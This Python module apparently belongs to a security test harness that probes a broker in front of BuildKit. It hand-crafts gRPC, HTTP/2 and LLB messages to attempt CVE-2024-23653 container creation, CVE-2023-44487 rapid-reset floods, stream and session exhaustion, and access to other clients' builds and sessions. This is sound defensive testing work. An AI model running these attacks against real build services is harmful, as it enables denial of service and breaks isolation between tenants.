"""BuildKit as an attacker speaks it: sessions, gRPC, protocol buffers and LLB by hand.

Loaded by attacks.py. Every step is a function of a context (see attack), and what came back
is noted there as an answer: its status is that of HTTP that fits the code of gRPC.
Source: moby/buildkit, the .proto files of api/services/control, solver/pb, frontend/gateway/pb.
"""
import hashlib
import json
import re
import secrets
import select
import socket
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import hpack

wire = sys.modules["wire"]
CONTROL = "/moby.buildkit.v1.Control/"
BRIDGE = "/moby.buildkit.v1.frontend.LLBBridge/"
STATUS = {0: 200, 3: 400, 5: 404, 6: 409, 7: 403, 8: 429, 12: 501, 13: 400, 14: 400}


# ---- protocol buffers: (field, value) pairs; bytes, str, int, or pairs again ----

def varint(number):
    out = bytearray()
    number &= (1 << 64) - 1
    while number > 0x7F:
        out.append(number & 0x7F | 0x80)
        number >>= 7
    out.append(number)
    return bytes(out)


def message(*pairs):
    out = b""
    for field, value in pairs:
        if isinstance(value, int):
            out += varint(field << 3) + varint(value)
            continue
        if isinstance(value, (list, tuple)):
            value = message(*value)
        data = value.encode() if isinstance(value, str) else value
        out += varint(field << 3 | 2) + varint(len(data)) + data
    return out


def entries(field, table):
    return [(field, [(1, key), (2, value)]) for key, value in table.items()]


def identity():
    return "".join(secrets.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(25))


# ---- LLB ----

class Graph:
    """Operations, each the input of the next; the last one is what is solved."""

    def __init__(self):
        self.operations, self.digest = [], None

    def add(self, kind, body, platform=True):
        inputs = [(1, [(1, self.digest)])] if self.digest else []
        extra = [(10, [(1, "amd64"), (2, "linux")])] if platform else []
        data = message(*inputs, *([(kind, body)] if kind else []), *extra)
        self.operations.append(data)
        self.digest = "sha256:" + hashlib.sha256(data).hexdigest()
        return self

    def source(self, name, **attributes):
        return self.add(3, [(1, name), *entries(2, attributes)])

    def image(self, name="docker.io/library/base:1"):
        return self.source("docker-image://" + name, **{"image.resolvemode": "local"})

    def execute(self, script, network=0, security=0, mounts=(), **meta):
        fields = [(1, "/bin/sh"), (1, "-c"), (1, ": %s; %s" % (identity(), script)),
                  (2, "PATH=/bin"), (3, "/")]
        fields += [({"cgroupParent": 10}[key], value) for key, value in meta.items()]
        body = [(1, fields), (2, [(3, "/")]), *[(2, mount) for mount in mounts]]
        return self.add(2, body + [(3, network)] * bool(network) + [(4, security)] * bool(security))

    def definition(self):
        self.add(None, None, platform=False)
        return [(1, data) for data in self.operations]


# ---- the wire ----

class Peer:
    """One upgraded connection, HTTP/2 in it; as client, or for a session as server."""

    def __init__(self, path, target, headers="", client=True):
        self.socket = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.socket.settimeout(5)
        self.socket.connect(path)
        self.streams = {}
        if target is None:  # HTTP/2 from the first byte on
            self.upgraded = True
            self.speak(client)
            return
        self.socket.sendall(("POST %s HTTP/1.1\r\nHost: d\r\nContent-Length: 0\r\nConnection: Upgrade\r\n"
                             "Upgrade: h2c\r\n%s\r\n" % (target, headers)).encode())
        head = b""
        while b"\r\n\r\n" not in head:
            piece = self.socket.recv(1)
            if not piece:
                break
            head += piece
        self.head = head
        self.upgraded = head.startswith(b"HTTP/1.1 101")
        if not self.upgraded:
            self.head += self.rest()
            return
        self.speak(client)

    def speak(self, client):
        self.h2 = h2.connection.H2Connection(h2.config.H2Configuration(
            client_side=client, header_encoding="utf-8", validate_inbound_headers=False,
            validate_outbound_headers=False, normalize_outbound_headers=False))
        self.h2.initiate_connection()
        self.flush()

    def rest(self):
        data = b""
        try:
            while piece := self.socket.recv(65536):
                data += piece
        except OSError:
            pass
        return data

    def flush(self):
        data = self.h2.data_to_send()
        try:
            self.socket.sendall(data)
        except OSError:
            pass  # the other side has closed: what it said before that is still read

    def begin(self, path, request, build=None, flag=0, content="application/grpc"):
        stream = self.h2.get_next_available_stream_id()
        headers = [(":method", "POST"), (":scheme", "http"), (":path", path),
                   (":authority", "localhost"), ("content-type", content), ("te", "trailers")]
        if build:
            headers.append(("buildkit-controlapi-buildid", build))
        self.h2.send_headers(stream, headers)
        data = bytes([flag]) + len(request).to_bytes(4, "big") + request
        for at in range(0, len(data), 16384):
            self.h2.send_data(stream, data[at:at + 16384])
        self.h2.end_stream(stream)
        self.streams[stream] = {"data": b"", "headers": {}, "ended": False}
        self.flush()
        return stream

    def pump(self, seconds, until=lambda: False):
        end = time.monotonic() + seconds
        while not until() and time.monotonic() < end:
            self.socket.settimeout(max(0.05, min(0.2, end - time.monotonic())))
            try:
                data = self.socket.recv(65536)
            except socket.timeout:
                continue
            except OSError:
                break
            if not data:
                break
            try:
                happened = self.h2.receive_data(data)
            except h2.exceptions.ProtocolError:
                break
            for event in happened:
                self.take(event)
            self.flush()
        return until()

    def take(self, event):
        state = self.streams.get(getattr(event, "stream_id", None))
        if isinstance(event, h2.events.DataReceived):
            self.h2.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
        if state is None:
            return
        if isinstance(event, h2.events.DataReceived):
            state["data"] += event.data
        elif isinstance(event, (h2.events.ResponseReceived, h2.events.TrailersReceived)):
            state["headers"].update(event.headers)
        elif isinstance(event, (h2.events.StreamEnded, h2.events.StreamReset)):
            state["ended"] = True

    def close(self):
        self.socket.close()


class Told:
    """An answer as attack judges it."""

    def __init__(self, status, words, raw=b""):
        self.status, self.message, self.raw, self.body = status, words, raw, raw
        self.headers = {}

    def json(self):
        return None


def told_of(peer):
    answer = wire.Answer(peer.head)
    return Told(answer.status or 400, answer.message, peer.head)


def told(state):
    code = int(state["headers"].get("grpc-status", 14))
    words = state["headers"].get("grpc-message", "")
    return Told(STATUS.get(code, 500), words.replace("%25", "%"), state["data"])


def session(path, name=None, key="", method="/grpc.health.v1.Health/Check"):
    name = name or identity()
    headers = ("X-Docker-Expose-Session-Uuid: %s\r\nX-Docker-Expose-Session-Name: x\r\n"
               "X-Docker-Expose-Session-Sharedkey: %s\r\n"
               "X-Docker-Expose-Session-Grpc-Method: %s\r\n" % (name, key, method))
    return name, Peer(path, "/session", headers, client=False)


# ---- steps ----

def call(path, pairs=(), build=None, flag=0, seconds=8, content="application/grpc", target="/grpc"):
    """One call; its answer, or that of the upgrade. pairs: or a function of the context."""
    def step(context):
        peer = Peer(context.path, target)
        if not peer.upgraded:
            context.note(told_of(peer))
            return context.answers[-1]
        request = message(*(pairs(context) if callable(pairs) else pairs))
        stream = peer.begin(path, request, build, flag, content)
        peer.pump(seconds, lambda: peer.streams[stream]["ended"])
        context.note(told(peer.streams[stream]))
        peer.close()
        return context.answers[-1]
    return step


def watched(context, peer, ref, stream, seconds):
    """Wait for a call and take in what the build says meanwhile."""
    output = peer.begin(CONTROL + "Status", message((1, ref)))
    peer.pump(seconds, lambda: peer.streams[stream]["ended"])
    peer.pump(1, lambda: peer.streams[output]["ended"])
    context.seen += peer.streams[output]["data"]
    context.seen += str(peer.streams[stream]["headers"]).encode()
    context.note(told(peer.streams[stream]))


def connect(context, **more):
    """A session of one's own and a connection for calls; None where it is refused."""
    name, tunnel = session(context.path, **more)
    peer = Peer(context.path, "/grpc")
    if tunnel.upgraded and peer.upgraded:
        return name, tunnel, peer
    context.note(told_of(peer if not peer.upgraded else tunnel))
    return None


def solve(make, session_of=None, seconds=12):
    """A build: make(context) gives the pairs of SolveRequest besides reference and session."""
    def step(context):
        made = connect(context)
        if made:
            name, tunnel, peer = made
            ref = identity()
            pairs = [(1, ref), (5, context.names[session_of] if session_of else name), *make(context)]
            stream = peer.begin(CONTROL + "Solve", message(*pairs))
            watched(context, peer, ref, stream, seconds)
            peer.close()
            tunnel.close()
        return context.answers[-1]
    return step


def bridge(make, seconds=12):
    """The same in two steps: an empty Solve, and what is solved in its name."""
    def step(context):
        made = connect(context)
        if made:
            name, tunnel, peer = made
            ref = identity()
            peer.begin(CONTROL + "Solve", message((1, ref), (5, name), (8, b""), (11, 1)))
            stream = peer.begin(BRIDGE + "Solve", message(*make(context)), ref)
            watched(context, peer, ref, stream, seconds)
            peer.close()
            tunnel.close()
        return context.answers[-1]
    return step


def returned(labels, key="containerimage.config", fields=(), name="mine/x:1", seconds=8):
    """A build whose frontend the client is: what it returns is the image, an empty one."""
    def step(context):
        made = connect(context)
        if made:
            identifier, tunnel, peer = made
            ref = identity()
            config = {"architecture": "amd64", "os": "linux", "rootfs": {"type": "layers"}}
            config["config"] = {"Labels": {k: context.fill(v) for k, v in labels.items()}}
            stream = peer.begin(CONTROL + "Solve", message((1, ref), (5, identifier), (
                13, [(1, "moby"), *entries(2, {"name": name} if name else {})])))
            end = peer.begin(BRIDGE + "Return", message((1, [*fields, *entries(10, {
                key: json.dumps(config)})])), ref)
            peer.pump(seconds, lambda: peer.streams[end]["ended"])
            context.note(told(peer.streams[end]))
            if context.answers[-1].status < 400:
                peer.pump(seconds, lambda: peer.streams[stream]["ended"])
                context.note(told(peer.streams[stream]))
            peer.close()
            tunnel.close()
        return context.answers[-1]
    return step


def graph(build, *more):
    return solve(lambda c: [(2, build(Graph(), c).definition()), *more])


def steps(context, *more):
    """What the engine needs to get as far as these fields; through a broker they stand alone."""
    bare = [(2, Graph().image().execute("true", network=2).definition())]
    return [*(bare if context.path == context.host.engine else ()), *more]


def attribute(name, value):
    """A Solve by the engine's own frontend, with one attribute."""
    return solve(lambda c: [(6, "dockerfile.v0"), *entries(7, {name: c.fill(value)})], seconds=4)


def container(context):
    """A container of a client's own from the result of a build (CVE-2024-23653)."""
    made = connect(context)
    if not made:
        return context.answers[-1]
    name, tunnel, peer = made
    ref = identity()
    peer.begin(CONTROL + "Solve", message((1, ref), (5, name), (8, b""), (11, 1)))
    solved = peer.begin(BRIDGE + "Solve", message(
        (1, Graph().image().execute("true", network=2).definition()), (5, 1), (6, 1), (14, 1)), ref)
    peer.pump(8, lambda: peer.streams[solved]["ended"])
    result = re.search(rb"\n\x19([a-z0-9]{25})", peer.streams[solved]["data"])
    stream = peer.begin(BRIDGE + "NewContainer", message((1, "sly"), (2, [
        (3, "/"), (23, result.group(1) if result else identity())]), (3, 1)), ref)
    peer.pump(4, lambda: peer.streams[stream]["ended"])
    context.note(told(peer.streams[stream]))
    peer.close()
    tunnel.close()
    return context.answers[-1]


def again(context):
    """Two sessions of one id."""
    name, tunnel = session(context.path)
    _, second = session(context.path, name)
    context.note(told_of(second))
    context.kept = tunnel
    return context.answers[-1]


def named(names, old=False, kind="moby"):
    """The image base:1 as the result, exported under these names."""
    attributes = {"name": names}
    where = [(3, kind), *entries(4, attributes)] if old else [
        (13, [(1, kind), *entries(2, attributes)])]
    return graph(lambda g, c: g.image().execute("true", network=2), *where)


def elsewhere(context):
    """Another's build that says the canary and goes on for a while, and another's session."""
    name, tunnel = session(context.host.engine)
    peer = Peer(context.host.engine, "/grpc")
    ref = identity()
    build = Graph().image().execute("echo %s; sleep 8" % context.host.canary, network=2)
    peer.begin(CONTROL + "Solve", message((1, ref), (5, name), (2, build.definition())))
    peer.pump(1.5)
    context.names["REF"], context.names["SESSION"] = ref, name
    context.kept = (tunnel, peer)


def finished(context):
    """Another's build, which the engine's history knows."""
    name, tunnel = session(context.host.engine)
    peer = Peer(context.host.engine, "/grpc")
    ref = identity()
    build = Graph().image().execute("true", network=2)
    stream = peer.begin(CONTROL + "Solve", message((1, ref), (5, name), (2, build.definition())))
    peer.pump(8, lambda: peer.streams[stream]["ended"])
    peer.close()
    tunnel.close()
    context.names["REF"] = ref


def flood(frames, settle=8.0):
    """Raw frames on a fresh connection. Through a broker: was it closed, and how much memory
    did the broker have at most?"""
    def step(context):
        broker = context.host.broker if context.path != context.host.engine else None
        if broker:
            broker.forget_peak()
        peer = Peer(context.path, "/grpc")
        if not peer.upgraded:
            context.note(told_of(peer))
            return context.answers[-1]
        context.names["CLOSED"] = "yes" if pour(peer.socket, frames(), settle) else ""
        peer.close()
        context.note(wire.request(context.path, "GET", "/_ping"))
        context.names["PEAK_KIB"] = str(broker.peak_kib()) if broker else ""
        return context.answers[-1]
    return step


def pour(sock, data, settle):
    """Send, and read what comes: until the other side closes (True), or is silent for long."""
    at, end = 0, time.monotonic() + settle
    sock.setblocking(False)
    while time.monotonic() < end:
        readable, writable, _ = select.select([sock], [sock] if at < len(data) else [], [], 0.2)
        try:
            if readable and not sock.recv(1 << 20):
                return True
            if writable:
                at += sock.send(data[at:at + 65536])
        except BlockingIOError:
            continue
        except OSError:
            return True
    return False


def resets(count):
    """Complete calls that are permitted, each reset at once (CVE-2023-44487)."""
    encoder, data = hpack.Encoder(), []
    head = [(":method", "POST"), (":scheme", "http"), (":path", CONTROL + "Info"),
            (":authority", "d"), ("content-type", "application/grpc"), ("te", "trailers")]
    for stream in range(1, 2 * count, 2):
        data += [frame(1, 4, stream, encoder.encode(head)), frame(0, 1, stream, b"\0" * 5),
                 frame(3, 0, stream, b"\0\0\0\x08")]
    return b"".join(data)


def large(size):
    """One message of this many bytes, within the windows that the peer opens."""
    def step(context):
        peer = Peer(context.path, "/grpc")
        body = message((1, b"x" * (size - 5)))
        assert len(body) == size
        stream = begun(peer)
        send(peer, stream, bytes([0]) + size.to_bytes(4, "big") + body, True)
        peer.pump(8, lambda: peer.streams[stream]["ended"])
        context.note(told(peer.streams[stream]))
        peer.close()
        return context.answers[-1]
    return step


def begun(peer):
    """A call whose message is still to come."""
    stream = peer.h2.get_next_available_stream_id()
    peer.h2.send_headers(stream, [(":method", "POST"), (":scheme", "http"), (":path", CONTROL + "ListWorkers"),
                                  (":authority", "d"), ("content-type", "application/grpc"), ("te", "trailers")])
    peer.streams[stream] = {"data": b"", "headers": {}, "ended": False, "reset": False}
    peer.flush()
    return stream


def send(peer, stream, data, last=False):
    at, end = 0, time.monotonic() + 60
    while at < len(data) and not peer.streams[stream]["ended"] and time.monotonic() < end:
        n = min(16384, peer.h2.local_flow_control_window(stream), len(data) - at)
        if n > 0:
            peer.h2.send_data(stream, data[at:at + n])
            peer.flush()
            at += n
        else:
            peer.pump(1, lambda: peer.h2.local_flow_control_window(stream) > 0)
    if last and not peer.streams[stream]["ended"]:
        peer.h2.end_stream(stream)
        peer.flush()


def crowd(count, size=0):
    """So many calls that are begun and not ended, and then a whole one."""
    def step(context):
        peer = Peer(context.path, "/grpc")
        peer.pump(0.5)
        peer.h2.remote_settings.max_concurrent_streams = 1000  # whatever it was told
        peer.h2.remote_settings.acknowledge()
        for _ in range(count):
            stream = begun(peer)
            if size:
                send(peer, stream, bytes([0]) + size.to_bytes(4, "big") + b"\0" * (size - 1))
        stream = begun(peer)
        body = message((1, b"x" * (size - 5))) if size else b""
        send(peer, stream, bytes([0]) + len(body).to_bytes(4, "big") + body, True)
        peer.pump(5, lambda: peer.streams[stream]["ended"])
        context.note(told(peer.streams[stream]))
        peer.close()
        return context.answers[-1]
    return step


def mute(context):
    """Builds whose session is open and never answers, and a client that leaves each; more of
    them than may run at once."""
    context.refs, context.kept, context.began = [], [], False
    for _ in range(14):
        made = connect(context, method="/moby.filesync.v1.FileSync/DiffCopy")
        if not made:
            return context.answers[-1]
        name, tunnel, peer = made
        context.refs.append(identity())
        stream = peer.begin(CONTROL + "Solve", message((1, context.refs[-1]), (5, name), (6, "dockerfile.v0")))
        if peer.pump(0.4, lambda: peer.streams[stream]["ended"]):
            context.note(told(peer.streams[stream]))
        context.began = context.began or at_work(context, context.refs[-1])
        peer.close()
        context.kept.append(tunnel)
    context.note(wire.request(context.path, "GET", "/_ping"))
    return context.answers[-1]


def at_work(context, ref):
    """Does the engine build this? Of what it did before, it tells the end."""
    peer = Peer(context.host.engine, "/grpc")
    stream = peer.begin(CONTROL + "Status", message((1, ref)))
    peer.pump(1, lambda: peer.streams[stream]["ended"])
    peer.close()
    return bool(peer.streams[stream]["data"]) and not peer.streams[stream]["ended"]


def goes_on(context):
    return not context.began or len(context.refs) < 14 or any(
        at_work(context, ref) for ref in context.refs[::6])


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
